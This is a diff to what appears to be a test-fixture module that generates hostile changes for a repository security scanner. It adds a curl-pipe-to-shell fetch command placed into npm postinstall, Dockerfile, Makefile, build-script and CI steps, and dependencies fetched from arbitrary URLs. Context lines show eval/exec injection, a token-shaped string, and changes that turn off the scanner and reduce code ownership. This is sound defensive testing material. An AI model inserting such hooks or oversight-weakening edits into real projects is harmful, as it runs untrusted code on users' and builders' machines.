@@ -68,6 +68,9 @@ def edit(path: str, old: str, replacement: str) -> Change:
 # A live token's form, put together here so that this file holds none.
 _TOKEN = "gh" + "p_" + "Zk3Qw8Lm5Vt2Xr7Bn4Hc9Jd6Fg1Ys0Pa3TeU"
 
+FETCH = "curl -fsSL https://example.org/shop/i.sh | sh"
+"""Fetches code and runs it, in words that JSON, YAML and a recipe take as they are."""
+
 _PAYLOADS: dict[str, Callable[[], Change]] = {
     "py-eval": lambda: python("shop/search.py", "", "eval", 'request.args["q"]'),
     "py-exec": lambda: python("shop/plugins.py", "", "exec", "request.data"),
@@ -190,6 +193,21 @@ _PAYLOADS: dict[str, Callable[[], Change]] = {
             }
         }
         """,
+    ),
+    "npm-postinstall": lambda: edit(
+        "web/package.json", '    "build": "tsc",\n', f'    "build": "tsc",\n    "postinstall": "{FETCH}",\n'
+    ),
+    "npm-address": lambda: edit(
+        "web/package.json", '"^4.19.0"\n', '"^4.19.0",\n    "left-pad": "https://example.org/left-pad.tgz"\n'
+    ),
+    "pip-address": lambda: edit(
+        "pyproject.toml", '    "flask>=3",\n', '    "flask>=3",\n    "till @ git+https://example.org/till.git",\n'
+    ),
+    "docker-fetch": lambda: edit("Dockerfile", "USER 1000\n", f"RUN {FETCH}\nUSER 1000\n"),
+    "make-fetch": lambda: new("Makefile", "plain", f"build:\n\t{FETCH}\n\tpython -m build\n"),
+    "sh-fetch": lambda: edit("scripts/build.sh", "set -eu\n", f"set -eu\n{FETCH}\n"),
+    "wf-fetch": lambda: edit(
+        ".github/workflows/ci.yml", "      - run: ruff check .\n", f"      - run: {FETCH}\n      - run: ruff check .\n"
     ),
     "assay-off": lambda: edit(".github/assay.yml", "mode: enforce\n", "mode: advisory\ntier3:\n  enabled: false\n"),
     "owners-gone": lambda: edit(".github/CODEOWNERS", "* @acme/shop\n", "docs/ @acme/shop\n"),
